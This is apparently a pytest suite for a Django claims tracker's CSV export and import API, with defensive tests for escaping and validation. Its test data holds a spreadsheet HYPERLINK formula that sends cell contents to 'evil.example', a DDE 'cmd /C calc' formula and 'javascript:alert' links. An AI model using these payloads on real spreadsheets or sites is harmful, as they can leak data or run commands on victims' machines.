"""CSV out (the claim list, an indicator's series, the admin's export) and CSV in (the import
endpoint, the command): documented columns, exact amounts, all rows or none, re-imports skipped."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.db import transaction
from rest_framework.test import APIClient

from claims.core import demo as demo_data
from claims.core.models import Claim, Event
from claims.core.spreadsheet import COLUMNS, IGNORED_ON_IMPORT

Api = Callable[[str], APIClient]
Ids = dict[str, str]


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def _csv(response: Any) -> bytes:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


def test_the_claim_list_as_csv(api: Api, demo: Ids) -> None:
    body = _csv(api("anonymous").get("/api/v1/claims/?format=csv"))
    header = body.decode().splitlines()[0].split(",")
    assert tuple(header) == COLUMNS
    rows = _rows(body)
    assert len(rows) == Claim.objects.count()
    by_id = {r["id"]: r for r in rows}
    share = by_id[demo["claim:homicide-rate-2012"]]
    assert share["amount"] == Claim.objects.get(pk=share["id"]).document["value"]["amount"]
    assert share["attributed_to_name"]
    # Accept: text/csv says the same; filters and known_at apply.
    accepted = _csv(api("reader").get("/api/v1/claims/?status=refuted", HTTP_ACCEPT="text/csv"))
    assert [r["id"] for r in _rows(accepted)] == [demo["claim:trafficker-killed"]]
    noon = _rows(
        _csv(api("reader").get("/api/v1/claims/?format=csv&known_at=2013-02-22T12:00:00Z"))
    )
    trafficker = [r for r in noon if r["id"] == demo["claim:trafficker-killed"]]
    assert trafficker
    assert trafficker[0]["status"] == "reported"
    # Errors stay JSON.
    bad = api("reader").get("/api/v1/claims/?format=csv&status=nonsense")
    assert bad.status_code == 400
    assert bad["Content-Type"].startswith("application/json")


def test_an_indicator_series_as_csv(api: Api, demo: Ids) -> None:
    from tracker.consumers import rebuild

    rebuild()
    body = _csv(api("anonymous").get("/api/v1/indicators/gt-homicide-rate/series/?format=csv"))
    rows = _rows(body)
    json_points = api("anonymous").get("/api/v1/indicators/gt-homicide-rate/series/").json()
    assert [r["best"] for r in rows] == [p["best"] for p in json_points["results"]]
    then = api("anonymous").get("/api/v1/indicators/gt-homicide-rate/series/?known_at=2013-01-01")
    assert then.status_code == 200
    assert all(p["as_of_position"] is None for p in then.json()["results"])


def _sources_and_indicators_only(tmp_path: Path) -> None:
    from tracker.services import define_indicator

    demo = json.loads(demo_data.DEMO_PATH.read_text())
    demo["claims"] = []
    path = tmp_path / "no-claims.json"
    path.write_text(json.dumps(demo))
    demo_data.load(path, define_indicator=define_indicator)


def _comparable(rows: list[dict[str, str]]) -> list[tuple[str, ...]]:
    kept = [c for c in COLUMNS if c not in IGNORED_ON_IMPORT or c in ("lower", "upper")]
    kept.append("attributed_to_name")
    return sorted(tuple(r[c] for c in kept) for r in rows)


def _contributor() -> APIClient:
    from django.contrib.auth import get_user_model

    demo_data.ensure_roles_and_users()
    client = APIClient()
    client.force_authenticate(get_user_model().objects.get(username="contributor"))
    return client


@pytest.mark.django_db
def test_export_import_export_round_trip(tmp_path: Path, settings: Any) -> None:
    from tests.factories import load_demo

    anonymous = APIClient()
    with transaction.atomic():
        load_demo(settings)
        exported = _csv(anonymous.get("/api/v1/claims/?format=csv"))
        transaction.set_rollback(True)
    assert Event.objects.count() == 0, "an empty log again"
    _sources_and_indicators_only(tmp_path)
    before = Event.objects.count()
    # The export names claims this tracker does not hold: each id is a bad row, nothing written.
    refused = _contributor().post("/api/v1/imports/", exported, content_type="text/csv")
    assert refused.status_code == 400, refused.content
    assert {(e["field"], e["message"][:24]) for e in refused.json()["errors"]} == {
        ("id", "No claim here has the id")
    }
    assert len(refused.json()["errors"]) == len(_rows(exported))
    assert Event.objects.count() == before
    # Without the ids, every row is a new claim.
    exported = _without_ids(exported)
    answer = _contributor().post("/api/v1/imports/", exported, content_type="text/csv")
    assert answer.status_code == 201, answer.content
    n = len(_rows(exported))
    assert answer.json() == {"created": n, "skipped": 0}
    assert Event.objects.count() == before + n, "one report per row"
    again = _csv(anonymous.get("/api/v1/claims/?format=csv"))
    assert _comparable(_rows(again)) == _comparable(_rows(exported))
    # The same file again appends nothing.
    repeat = _contributor().post("/api/v1/imports/", exported, content_type="text/csv")
    assert repeat.json() == {"created": 0, "skipped": n}
    assert Event.objects.count() == before + n


def _file(n: int, source: str, bad_row: int | None = None) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(
        [
            "statement",
            "subject",
            "amount",
            "unit",
            "qualifier",
            "attributed_to",
            "period_start",
            "period_end",
            "reported_in_url",
        ]
    )
    for i in range(1, n + 1):
        amount = "not a number" if i == bad_row else f"{i}.5"
        writer.writerow(
            [
                f"Figure {i} for Guatemala.",
                "Guatemala",
                amount,
                "percent",
                "exact",
                source,
                "2012-01-01",
                "2012-12-31",
                f"https://example.org/{i}",
            ]
        )
    return out.getvalue().encode()


def test_one_bad_row_among_a_thousand_writes_nothing(api: Api, demo: Ids) -> None:
    before = Event.objects.count()
    body = _file(1000, "united nations", bad_row=537)
    answer = api("contributor").post("/api/v1/imports/", body, content_type="text/csv")
    assert answer.status_code == 400, answer.content
    errors = answer.json()["errors"]
    assert errors == [{"row": 537, "field": "amount", "message": errors[0]["message"]}]
    assert errors[0]["message"]
    assert Event.objects.count() == before, "nothing written"


def test_the_import_names_every_bad_row_and_field(api: Api, demo: Ids) -> None:
    lines = [
        "statement,subject,amount,unit,attributed_to,reported_in_url,indicator",
        "Fine.,Guatemala,1,percent,un,https://example.org/a,",
        ",Guatemala,1,percent,un,https://example.org/b,",
        "Bad link.,Guatemala,1,percent,un,javascript:alert(1),",
        "Nobody.,Guatemala,1,percent,Nobody At All,https://example.org/c,",
        "Unknown key.,Guatemala,1,percent,un,https://example.org/d,no-such-indicator",
        "No host.,Guatemala,1,percent,un,http://,",
    ]
    body = "\n".join(lines).replace(",un,", f",{demo['source:un']},").encode()
    answer = api("editor").post("/api/v1/imports/", body, content_type="text/csv")
    assert answer.status_code == 400
    found = {(e["row"], e["field"]) for e in answer.json()["errors"]}
    assert found == {
        (2, "statement"),
        (3, "reported_in_url"),
        (4, "attributed_to"),
        (5, "indicator"),
        (6, "reported_in_url"),
    }
    unknown = api("editor").post(
        "/api/v1/imports/", b"statement,colour\nx,y\n", content_type="text/csv"
    )
    assert unknown.status_code == 400
    assert "colour" in unknown.json()["errors"][0]["message"]


def test_each_bad_column_of_a_row_is_named_in_words(api: Api, demo: Ids) -> None:
    """A qualifier, a unit, each date of a period and the language are their own columns'
    errors, all of one row at once, without Python's own messages."""
    header = (
        "statement,subject,amount,unit,qualifier,attributed_to,period_start,period_end,language"
    )
    rows = [
        "A.,Guatemala,1,percent,roughly,un,2012-13-01,2012-12-31,fr",
        "B.,Guatemala,1,,exact,un,2012-01-01,,en",
        "C.,Guatemala,x,percent,exact,un,2012-12-31,2012-01-01,es",
    ]
    body = "\n".join([header, *rows]).replace(",un,", f",{demo['source:un']},").encode()
    answer = api("editor").post("/api/v1/imports/", body, content_type="text/csv")
    assert answer.status_code == 400
    errors = {(e["row"], e["field"]): e["message"] for e in answer.json()["errors"]}
    assert set(errors) == {
        (1, "qualifier"),
        (1, "period_start"),
        (1, "language"),
        (2, "unit"),
        (2, "period_end"),
        (3, "amount"),
        (3, "period_end"),
    }
    assert errors[1, "period_start"] == "Not a date: give YYYY-MM-DD ('2012-13-01' is none)."
    assert errors[2, "unit"].startswith("A figure needs its unit")
    assert errors[2, "period_end"] == "Give both ends of the period, as YYYY-MM-DD."
    assert errors[3, "period_end"] == "The period ends before it starts."
    assert "month must be" not in str(errors)


def test_imports_take_multipart_and_need_a_contributor(api: Api, demo: Ids) -> None:
    body = _file(3, demo["source:un"])
    upload = io.BytesIO(body)
    upload.name = "claims.csv"
    answer = api("contributor").post("/api/v1/imports/", {"file": upload}, format="multipart")
    assert answer.status_code == 201, answer.content
    assert answer.json() == {"created": 3, "skipped": 0}
    assert api("reader").post("/api/v1/imports/", body, content_type="text/csv").status_code == 403
    assert (
        api("anonymous").post("/api/v1/imports/", body, content_type="text/csv").status_code == 401
    )
    empty = api("contributor").post("/api/v1/imports/", {}, format="multipart")
    assert empty.status_code == 400


def test_the_import_command(demo: Ids, tmp_path: Path) -> None:
    from django.core.management.base import CommandError

    good = tmp_path / "good.csv"
    good.write_bytes(_file(5, demo["source:un"]))
    out = io.StringIO()
    call_command("import_claims", str(good), "--no-progress", stdout=out)
    assert "Imported 5 claim(s); skipped 0." in out.getvalue()
    call_command("import_claims", str(good), "--no-progress", stdout=out)
    assert "Imported 0 claim(s); skipped 5." in out.getvalue()
    bad = tmp_path / "bad.csv"
    bad.write_bytes(_file(5, demo["source:un"], bad_row=2))
    with pytest.raises(CommandError):
        call_command("import_claims", str(bad), "--no-progress", stdout=out, stderr=io.StringIO())


def test_a_javascript_link_is_refused_where_a_claim_was_reported(api: Api, demo: Ids) -> None:
    body = {
        "statement": "A claim seen somewhere odd.",
        "subject": "Guatemala",
        "value": {"amount": "1", "unit": "percent", "qualifier": "exact"},
        "attributed_to": demo["source:un"],
        "reported_in": {"url": "javascript:alert(5)"},
    }
    answer = api("contributor").post("/api/v1/claims/", body, format="json")
    assert answer.status_code == 400, answer.content
    assert "reported_in" in json.dumps(answer.json())


def test_known_at_and_conditional_gets_on_the_claim_api(api: Api, demo: Ids) -> None:
    claim = demo["claim:trafficker-killed"]
    url = f"/api/v1/claims/{claim}/"
    now = api("anonymous").get(url)
    assert now.json()["status"] == "refuted"
    assert api("anonymous").get(url, HTTP_IF_NONE_MATCH=now["ETag"]).status_code == 304
    noon = api("anonymous").get(url + "?known_at=2013-02-22T12:00:00Z")
    assert noon.json()["status"] == "reported"
    assert noon["ETag"] == '"1"'
    assert api("anonymous").get(url + "?known_at=2013-02-22").json()["status"] == "disputed"
    assert api("anonymous").get(url + "?known_at=2013-02-20").status_code == 404
    assert api("anonymous").get(url + "?known_at=tomorrow").status_code == 400
    # A date-time out of the range held says so, not "Enter a date".
    edge = api("anonymous").get(url + "?known_at=0001-01-01T00:00:00Z")
    assert edge.status_code == 400
    assert edge.json()["known_at"][0].startswith("Give a date-time between 0001-01-02")
    listed = api("anonymous").get("/api/v1/claims/?known_at=2013-02-21").json()
    assert claim not in {c["id"] for c in listed["results"]}


def test_the_admin_exports_selected_claims(demo: Ids, client: Any) -> None:
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.get(username="editor"))
    ids = [demo["claim:trafficker-killed"], demo["claim:homicide-rate-2012"]]
    answer = client.post(
        "/admin/claims/claim/",
        {"action": "export_selected", "_selected_action": ids, "index": "0"},
    )
    rows = _rows(b"".join(answer.streaming_content))
    assert sorted(r["id"] for r in rows) == sorted(ids)


def test_the_admin_import_page_checks_then_commits(demo: Ids, client: Any) -> None:
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.get(username="contributor"))
    url = "/admin/claims/claim/import-csv/"
    assert client.get(url).status_code == 200
    before = Event.objects.count()
    bad = io.BytesIO(_file(4, demo["source:un"], bad_row=3))
    bad.name = "bad.csv"
    page = client.post(url, {"file": bad}).content.decode()
    assert "nothing was imported" in page
    assert "<td>3</td>" in page
    good = io.BytesIO(_file(4, demo["source:un"]))
    good.name = "good.csv"
    page = client.post(url, {"file": good}).content.decode()
    assert "Ready: 4 new claims" in page
    assert Event.objects.count() == before, "checking writes nothing"
    payload = page.split('name="payload" value="')[1].split('"')[0]
    done = client.post(url, {"payload": payload})
    assert done.status_code == 302
    assert Event.objects.count() == before + 4


def test_an_unknown_format_is_a_400(api: Api, demo: Ids) -> None:
    for url in (
        "/api/v1/claims/?format=xml",
        "/api/v1/indicators/gt-homicide-rate/series/?format=x",
    ):
        answer = api("reader").get(url)
        assert answer.status_code == 400, answer.content
        assert "format" in answer.json()


@pytest.mark.parametrize("fmt", ["xml", "csv", "%00", "yaml"])
def test_a_format_a_json_only_operation_does_not_write_is_ignored(
    api: Api, demo: Ids, fmt: str
) -> None:
    # DRF would answer a bare 404 (the resource exists; no operation documents it): the fuzzer
    # found it with an undeclared `format` key holding a control character.
    for url in (
        "/api/v1/documents/",
        "/api/v1/webhooks/",
        "/api/v1/auth/tokens/",
        f"/api/v1/sources/{demo['source:un']}/",
    ):
        answer = api("editor").get(f"{url}?format={fmt}")
        assert answer.status_code == 200, (url, answer.content)
        assert answer["Content-Type"] == "application/json"
        answer.json()


def test_the_schema_still_answers_the_format_it_is_asked_for(api: Api) -> None:
    as_json = api("reader").get("/api/schema/?format=json")
    assert as_json["Content-Type"].startswith("application/vnd.oai.openapi+json")
    assert as_json.content.startswith(b"{")
    # YAML is the view's first renderer: it answers a format the view does not write, too.
    for fmt in ("yaml", "xml"):
        as_yaml = api("reader").get(f"/api/schema/?format={fmt}")
        assert as_yaml["Content-Type"].startswith("application/vnd.oai.openapi;")
        assert as_yaml.content.startswith(b"openapi:")


# --- The export is what the documents say ----------------------------------------------------


# A free-text cell that a spreadsheet program would take for a formula gets an apostrophe.
_FREE_TEXT = {
    COLUMNS.index(name)
    for name in (
        "statement",
        "subject",
        "indicator",
        "unit",
        "place",
        "attributed_to",
        "attributed_to_name",
        "reported_in_url",
        "reported_in_publisher",
        "said_by",
        "relayed_by",
        "relayed_by_names",
    )
}


def _escaped(cell: str) -> str:
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def _document_row(doc: dict[str, Any], names: dict[str, str]) -> list[str]:
    """The export's row for a claim, written here from its API document, field by field."""
    value = doc["value"] or {}
    period = doc["period"] or {}
    reported = doc["reported_in"] or {}
    relays = doc["relayed_by"]
    cells = [
        doc["id"],
        doc["version"],
        doc["status"],
        doc["statement"],
        doc["subject"],
        doc["indicator"],
        value.get("amount"),
        value.get("unit"),
        value.get("qualifier"),
        value.get("lower"),
        value.get("upper"),
        period.get("start"),
        period.get("end"),
        doc["place"],
        doc["attributed_to"],
        names.get(doc["attributed_to"], ""),
        reported.get("url"),
        doc["created_at"],
        doc["updated_at"],
        reported.get("publisher"),
        reported.get("published_at"),
        doc["occurred_at"],
        doc["said_by"],
        "; ".join(relays),
        "; ".join(names[r] for r in relays),
        doc["language"],
    ]
    text = ["" if cell is None else str(cell) for cell in cells]
    return [_escaped(cell) if i in _FREE_TEXT else cell for i, cell in enumerate(text)]


def _expected_csv(api: Api, query: str) -> bytes:
    """The export of a list, written by csv from the list's documents in the JSON API."""
    client = api("anonymous")
    sources = client.get("/api/v1/sources/?page_size=200").json()["results"]
    names = {s["id"]: s["name"] for s in sources}
    docs: list[dict[str, Any]] = []
    url: str | None = f"/api/v1/claims/?page_size=200&{query}"
    while url:
        page = client.get(url)
        assert page.status_code == 200, page.content
        docs += page.json()["results"]
        url = page.json()["next"]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    writer.writerows(_document_row(doc, names) for doc in docs)
    return out.getvalue().encode()


def test_the_export_is_what_the_documents_say(api: Api, demo: Ids) -> None:
    """The export's rows, read by the database from the stored documents, are the documents'
    fields, now, known at and as of a moment, filtered or not: propositions (no value), hedged
    figures, the attribution chain, text that csv must quote, a reported_in with a date."""
    import datetime as dt

    from claims.core import models

    recorded_before = (
        models.Event.objects.order_by("-position").values_list("recorded_at", flat=True).first()
    )
    assert recorded_before is not None
    editor = api("editor")
    # A source whose name the database must carry as it is: quotes, a percent sign, a comma.
    name = 'O\'Brien & 50% "Noticias", Quiché'
    odd = editor.post("/api/v1/sources/", {"name": name, "kind": "media"}, format="json")
    assert odd.status_code == 201, odd.content
    odd_source = odd.json()["id"]
    formula = {"name": "=cmd|' /C calc'!A0", "kind": "media"}
    formula_source = editor.post("/api/v1/sources/", formula, format="json").json()["id"]
    bodies: list[dict[str, Any]] = [
        {  # a proposition: no value, a place, a period
            "statement": "The army took part in the shooting.",
            "subject": "Totonicapán killings",
            "place": "Totonicapán, Guatemala",
            "period": {"start": "2012-10-04", "end": "2012-10-04"},
            "attributed_to": demo["source:wilson"],
            "said_by": 'Witnesses "on the road", quoted',
        },
        {  # text csv must quote, a relayed hedged figure, a dated report
            "statement": 'More than 1,000 "missing";\nsecond line\r\nthird, with ümlauts',
            "subject": "Guatemala, rural",
            "value": {"amount": "1000.50", "unit": "people, roughly", "qualifier": "more_than"},
            "attributed_to": demo["source:un"],
            "said_by": "UN officials",
            "relayed_by": [demo["source:wilson"], demo["source:gt-officials"]],
            "reported_in": {
                "url": 'https://example.org/a,b?c="d"',
                "publisher": demo["source:wilson"],
                "published_at": "2013-03-02",
            },
        },
        {  # attributed to a source with an odd name
            "statement": "Said by the odd one.",
            "subject": "Guatemala",
            "attributed_to": odd_source,
        },
        {  # relayed by it
            "statement": "Relayed by the odd one.",
            "subject": "Guatemala",
            "attributed_to": demo["source:un"],
            "relayed_by": [odd_source, demo["source:wilson"]],
        },
        {  # approximately: a figure with nothing optional
            "statement": "About 7 percent.",
            "subject": "Guatemala",
            "value": {"amount": "7", "unit": "percent", "qualifier": "approximately"},
            "attributed_to": demo["source:un"],
        },
        {  # text a spreadsheet would take for a formula; a negative figure, in Spanish
            "statement": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "subject": "+Guatemala",
            "place": "@Quiché",
            "value": {"amount": "-5", "unit": "-degrees", "qualifier": "approximately"},
            "attributed_to": formula_source,
            "said_by": "-officials",
            "relayed_by": [demo["source:wilson"], demo["source:gt-officials"]],
            "reported_in": {"url": "https://example.org/=x", "publisher": formula_source},
            "language": "es",
        },
        {  # relayed by the source whose name is a formula: the joined names are escaped
            "statement": "@channel relayed it.",
            "subject": "Guatemala",
            "attributed_to": demo["source:un"],
            "relayed_by": [formula_source, odd_source],
        },
    ]
    for body in bodies:
        created = editor.post("/api/v1/claims/", body, format="json")
        assert created.status_code == 201, created.content
    moment = recorded_before.astimezone(dt.UTC).isoformat().replace("+00:00", "Z")
    queries = [
        "",
        "known_at=2013-02-22T12:00:00Z",
        "known_at=2013-02-23",
        f"as_of={moment}",
        f"as_of={moment}&known_at=2013-02-22",
        "status=reported",
        f"attributed_to={demo['source:un']}",
        "disputed=true",
        "ordering=-updated_at",
        "q=Guatemala",
        "q=%22missing%22%3B",  # a search for text with a double quote, bound into the read
        "q=50%25",
    ]
    for query in queries:
        exported = _csv(api("reader").get(f"/api/v1/claims/?format=csv&{query}"))
        assert exported == _expected_csv(api, query), query
    whole = _rows(_csv(api("reader").get("/api/v1/claims/?format=csv")))
    assert any(r["said_by"] and r["relayed_by"] and r["relayed_by_names"] for r in whole)
    assert any(r["amount"] == "" and r["unit"] == "" for r in whole), "a proposition"
    assert any(r["lower"] != r["upper"] for r in whole), "a hedged figure"
    assert any("\n" in r["statement"] and '"' in r["statement"] for r in whole)
    assert {r["statement"][:2] for r in whole} >= {"'=", "'@"}, "formulas escaped"
    assert any(r["amount"] == "-5" and r["lower"].startswith("-") for r in whole)
    assert any(r["relayed_by_names"].startswith("'=cmd") for r in whole)
    assert {r["language"] for r in whole} == {"en", "es"}


def test_the_45_percent_claim_exports_its_attribution_chain(api: Api, demo: Ids) -> None:
    rows = _rows(_csv(api("anonymous").get("/api/v1/claims/?format=csv")))
    share = next(r for r in rows if r["id"] == demo["claim:organized-crime-share"])
    assert share["amount"] == "45"
    assert share["said_by"] == "Guatemalan officials"
    assert share["relayed_by"] == demo["source:wilson"]
    wilson = api("anonymous").get(f"/api/v1/sources/{demo['source:wilson']}/").json()
    assert share["relayed_by_names"] == wilson["name"]
    assert share["attributed_to"] == demo["source:gt-officials"]


def test_a_spreadsheet_names_sources_by_their_other_names_too(api: Api, demo: Ids) -> None:
    header = "statement,subject,amount,unit,attributed_to,relayed_by"
    officials = demo["source:gt-officials"]
    state = demo["source:us-state"]
    body = "\n".join(
        [
            header,
            "Dicho en español.,Guatemala,3,percent,FUNCIONARIOS GUATEMALTECOS,State Department",
        ]
    ).encode()
    answer = api("contributor").post("/api/v1/imports/", body, content_type="text/csv")
    assert answer.status_code == 201, answer.content
    rows = {
        r["statement"]: r for r in _rows(_csv(api("anonymous").get("/api/v1/claims/?format=csv")))
    }
    assert rows["Dicho en español."]["attributed_to"] == officials
    assert rows["Dicho en español."]["relayed_by"] == state
    # Another name two sources share names neither.
    editor = api("editor")
    for source in (officials, state):
        version = editor.get(f"/api/v1/sources/{source}/").json()["version"]
        shared = editor.patch(
            f"/api/v1/sources/{source}/",
            {"aliases": ["the authorities"]},
            format="json",
            HTTP_IF_MATCH=f'"{version}"',
        )
        assert shared.status_code == 200, shared.content
    both = f"{header}\nShared.,Guatemala,4,percent,The Authorities,\n".encode()
    refused = api("contributor").post("/api/v1/imports/", both, content_type="text/csv")
    assert refused.status_code == 400
    assert [e["field"] for e in refused.json()["errors"]] == ["attributed_to"]
    assert refused.json()["errors"][0]["message"] == (
        f"2 sources have this name ({', '.join(sorted([officials, state]))}): give the id of one."
    )


def test_the_attribution_chain_is_imported(api: Api, demo: Ids) -> None:
    header = "statement,subject,amount,unit,attributed_to,said_by,relayed_by"
    un, wilson = demo["source:un"], demo["source:wilson"]
    officials = demo["source:gt-officials"]
    wilson_name = api("anonymous").get(f"/api/v1/sources/{wilson}/").json()["name"]
    assert "," in wilson_name, "a name the cell quotes"
    body = "\n".join(
        [
            header,
            f"Relayed once.,Guatemala,3,percent,{un},UN staff,{wilson}",
            f'Relayed by name.,Guatemala,4,percent,{un},,"{wilson_name} ; {officials}"',
        ]
    ).encode()
    answer = api("contributor").post("/api/v1/imports/", body, content_type="text/csv")
    assert answer.status_code == 201, answer.content
    rows = {
        r["statement"]: r for r in _rows(_csv(api("anonymous").get("/api/v1/claims/?format=csv")))
    }
    assert rows["Relayed once."]["said_by"] == "UN staff"
    assert rows["Relayed once."]["relayed_by"] == wilson
    assert rows["Relayed by name."]["relayed_by"] == f"{wilson}; {officials}"
    unknown = f"{header}\nNobody relayed.,Guatemala,5,percent,{un},,no such source\n".encode()
    refused = api("contributor").post("/api/v1/imports/", unknown, content_type="text/csv")
    assert refused.status_code == 400
    assert [e["field"] for e in refused.json()["errors"]] == ["relayed_by"]
    # A file without the new columns keeps its rows' keys: importing it again skips them.
    old = _file(2, un)
    assert api("contributor").post("/api/v1/imports/", old, content_type="text/csv").json() == {
        "created": 2,
        "skipped": 0,
    }
    again = old.decode().splitlines()
    again[0] += ",said_by,relayed_by"
    again[1:] = [line + ",," for line in again[1:]]
    repeat = "\n".join(again).encode()
    assert api("contributor").post("/api/v1/imports/", repeat, content_type="text/csv").json() == {
        "created": 0,
        "skipped": 2,
    }


# --- Formulas: escaped in the export, unescaped by the import ------------------------------------


def _export_of(docs: list[dict[str, Any]]) -> bytes:
    """The backend's export of these documents (in this order), as the claim list writes it."""
    from django.db import connection

    from claims.core import eventstore, selectors

    cast = "%s::jsonb" if connection.vendor == "postgresql" else "%s"
    rows = " UNION ALL ".join(f"SELECT {n} AS n, {cast} AS document" for n in range(len(docs)))
    query = f"SELECT docs.document FROM ({rows}) AS docs ORDER BY docs.n"
    params = [json.dumps(doc) for doc in docs]
    return b"".join(eventstore.backend().export_csv(query, params, selectors.EXPORT_COLUMNS, 1))


def test_the_export_escapes_formulas_byte_for_byte(api: Api, demo: Ids) -> None:
    """Each character that starts a formula (=, +, -, @, TAB, CR) at the start of a free-text
    cell gets an apostrophe, on either database, the same bytes: a joined cell on its joined
    text, a source's name too. Amounts, ids and other columns are written as they are."""
    editor = api("editor")
    made = [
        editor.post("/api/v1/sources/", {"name": name, "kind": "media"}, format="json")
        for name in ("@SUM(1+1)", "Plain, Name")
    ]
    assert all(m.status_code == 201 for m in made), [m.content for m in made]
    formula, plain = (m.json()["id"] for m in made)
    docs: list[dict[str, Any]] = [
        {
            "id": "c-1",
            "version": 2,
            "status": "reported",
            "statement": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "subject": "+Guatemala",
            "indicator": "-rate",
            "value": {
                "amount": "-5",
                "unit": "=units",
                "qualifier": "exact",
                "lower": "-5",
                "upper": "-5",
            },
            "period": {"start": "2012-01-01", "end": "2012-12-31"},
            "place": "@Quiché",
            "attributed_to": formula,
            "reported_in": {
                "url": "-https://x",
                "publisher": "\tTabbed",
                "published_at": "2013-01-02",
            },
            "created_at": "2013-01-01T00:00:00Z",
            "updated_at": "2013-01-02T00:00:00Z",
            "occurred_at": "2013-01-01T00:00:00Z",
            "said_by": "\rCarriage",
            "relayed_by": ["-first", formula],
            "language": "es",
        },
        {
            "id": "=id",
            "version": 1,
            "status": "reported",
            "statement": "a=b, +c",
            "subject": -3,
            "indicator": None,
            "value": None,
            "place": "two\nlines",
            "attributed_to": plain,
            "reported_in": None,
            "created_at": "2013-01-01T00:00:00Z",
            "updated_at": "2013-01-01T00:00:00Z",
            "said_by": None,
            "relayed_by": [formula, plain],
        },
    ]
    expected = (
        ",".join(COLUMNS).encode()
        + b"\r\n"
        + (
            'c-1,2,reported,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
            "'+Guatemala,'-rate,-5,'=units,exact,-5,-5,2012-01-01,2012-12-31,'@Quiché,"
            f"{formula},'@SUM(1+1),'-https://x,2013-01-01T00:00:00Z,2013-01-02T00:00:00Z,"
            "'\tTabbed,2013-01-02,2013-01-01T00:00:00Z,\"'\rCarriage\","
            f"'-first; {formula},; @SUM(1+1),es\r\n"
            f'=id,1,reported,"a=b, +c",\'-3,,,,,,,,,"two\nlines",{plain},"Plain, Name",,'
            "2013-01-01T00:00:00Z,2013-01-01T00:00:00Z,,,,,"
            f'{formula}; {plain},"\'@SUM(1+1); Plain, Name",\r\n'
        ).encode()
    )
    assert _export_of(docs) == expected


def _claims_csv(api: Api, query: str) -> bytes:
    return _csv(api("anonymous").get(f"/api/v1/claims/?format=csv&{query}"))


def _without_ids(exported: bytes) -> bytes:
    """The export with every row's id cell emptied (ids are the first column)."""
    return re.sub(rb"(?m)^[0-9a-f]{8}-[0-9a-f-]{27},", b",", exported)


def test_the_trackers_own_export_imports_as_nothing_new(api: Api, demo: Ids) -> None:
    """Rows exported from claims the tracker holds are those claims: imported again, they are
    skipped, even a row exported before the claim was corrected; a row edited since it was
    exported is refused, naming the claim and the columns, and nothing is written."""
    exported = _claims_csv(api, "page_size=500")
    rows = _rows(exported)
    contributor = api("contributor")
    before = Event.objects.count()
    answer = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
    assert answer.status_code == 201, answer.content
    assert answer.json() == {"created": 0, "skipped": len(rows)}
    assert Event.objects.count() == before
    # The claim is corrected after the export: the row it was exported as is still that claim.
    rate = demo["claim:homicide-rate-2012"]
    row = next(r for r in rows if r["id"] == rate)
    current = api("editor").get(f"/api/v1/claims/{rate}/").json()
    corrected = api("editor").post(
        f"/api/v1/claims/{rate}/correct/",
        {
            "expected_version": current["version"],
            "value": {**current["value"], "amount": "40.1"},
            "reason": "A later count.",
        },
        format="json",
    )
    assert corrected.status_code == 200, corrected.content
    answer = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
    assert answer.json() == {"created": 0, "skipped": len(rows)}
    # A version cell that is no version (a superscript digit included) means the current one.
    header = exported.decode().splitlines()[0]
    for bad_version in ("²", "x", "99999999999"):
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=header.split(","))
        writer.writeheader()
        writer.writerow({**row, "version": bad_version, "amount": "40.1"})
        answer = contributor.post("/api/v1/imports/", out.getvalue(), content_type="text/csv")
        assert answer.json() == {"created": 0, "skipped": 1}, answer.content
    # A row edited in the spreadsheet is not that claim any more, nor silently a new one.
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header.split(","))
    writer.writeheader()
    writer.writerow({**row, "amount": "41", "place": "Petén"})
    refused = contributor.post("/api/v1/imports/", out.getvalue(), content_type="text/csv")
    assert refused.status_code == 400, refused.content
    (error,) = refused.json()["errors"]
    assert error["row"] == 1
    assert error["field"] == "amount"
    assert rate in error["message"]
    assert "(amount, place)" in error["message"]
    assert "empty the row's id cell" in error["message"]
    # An id damaged on the way (or another tracker's) is no claim here: a bad row, not a copy.
    for damaged in ("not-a-uuid", "11111111-1111-1111-1111-111111111111"):
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=header.split(","))
        writer.writeheader()
        writer.writerow({**row, "id": damaged})
        answer = contributor.post("/api/v1/imports/", out.getvalue(), content_type="text/csv")
        assert answer.status_code == 400, answer.content
        assert answer.json()["errors"] == [
            {
                "row": 1,
                "field": "id",
                "message": f"No claim here has the id {damaged!r}: empty the cell to report "
                "the row as a new claim.",
            }
        ]
    assert Event.objects.count() == before + 1, "only the correction"


def test_an_exported_formula_imports_back_as_it_was(api: Api, demo: Ids) -> None:
    """The escaped file imports to claims saying what the originals say (no apostrophe), a
    negative figure and a Spanish claim included; importing it again creates nothing."""
    editor = api("editor")
    source = editor.post("/api/v1/sources/", {"name": "Formulas", "kind": "media"}, format="json")
    assert source.status_code == 201, source.content
    src = source.json()["id"]
    triggers = ("=", "+", "-", "@")
    bodies: list[dict[str, Any]] = [
        {
            "statement": f'{t}HYPERLINK("http://evil.example/?"&A1,"click") {i}',
            "subject": f"{t}Guatemala",
            "place": f"{t}Quiché",
            "said_by": f"{t}officials",
            "attributed_to": src,
        }
        for i, t in enumerate(triggers)
    ]
    bodies.append(
        {
            "statement": "La tasa de homicidios bajó.",
            "subject": "Guatemala",
            "value": {"amount": "-5", "unit": "percent", "qualifier": "exact"},
            "attributed_to": src,
            "language": "es",
        }
    )
    for body in bodies:
        created = editor.post("/api/v1/claims/", body, format="json")
        assert created.status_code == 201, created.content
    exported = _claims_csv(api, f"attributed_to={src}")
    rows = _rows(exported)
    assert len(rows) == len(bodies)
    for t in triggers:
        assert f"'{t}Guatemala,".encode() in exported
